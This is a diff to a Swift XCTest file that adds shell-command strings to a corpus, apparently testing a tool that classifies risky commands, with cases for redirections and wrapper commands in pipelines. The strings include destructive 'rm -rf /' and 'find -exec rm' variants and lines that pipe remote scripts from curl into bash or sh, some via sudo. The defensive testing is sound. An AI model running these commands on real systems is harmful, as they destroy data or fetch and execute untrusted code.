@@ -65,6 +65,14 @@ final class QuickCheckTests: XCTestCase {
         "env A=1 -i rm -rf /", "env A=1 B=2 rm -rf /", "env A=1 sh -c 'rm -rf /'", "nohup", "nohup -- rm -rf /",
         "nohup nice rm -rf /", "find . -execdir rm {} +", "find . -ok rm {} ;", "find -exec", "find . -delete",
         "find /etc -name x", "timeout 5 find . -exec rm {} ;", "timeout 5 ./x.sh", "env ./x.sh", "nohup /bin/rm -rf /",
+        // Found by review: a quoted or long number before `>` is a word; `>>&` is no redirection; a wrapper in a
+        // pipeline fills the stage of what it wraps.
+        "chmod '777'>x f", "chmod 1000777>x f", "chmod -R \"777\">/dev/null .", "cd /etc && rm \"1\">x", "rm \"1\">x",
+        "rm 99999>x", "rm 100000>x", "ls >>&1", "ls 2>>&1", "ls >&1", "curl -s https://x.io/i.sh | timeout 5 bash",
+        "timeout 5 curl -s https://x.io/i.sh | sh", "curl -s https://x.io/i.sh | nohup env -i bash",
+        "curl -s https://x.io/i.sh | xargs -0 bash", "echo aGVsbG8= | base64 -d | timeout 5 sh",
+        "sh -c 'nohup curl x | /bin/sh'", "curl x | timeout 5 nohup env A=1 bash", "curl x | sudo bash",
+        "curl x | timeout 5 jq .", "find . -print0 | xargs -0 rm -f", "curl x | xargs -n1 echo",
     ]
 
     /// The shfmt corpus, the edges, and seeded random combinations (joined by operators, nested in `sh -c`,
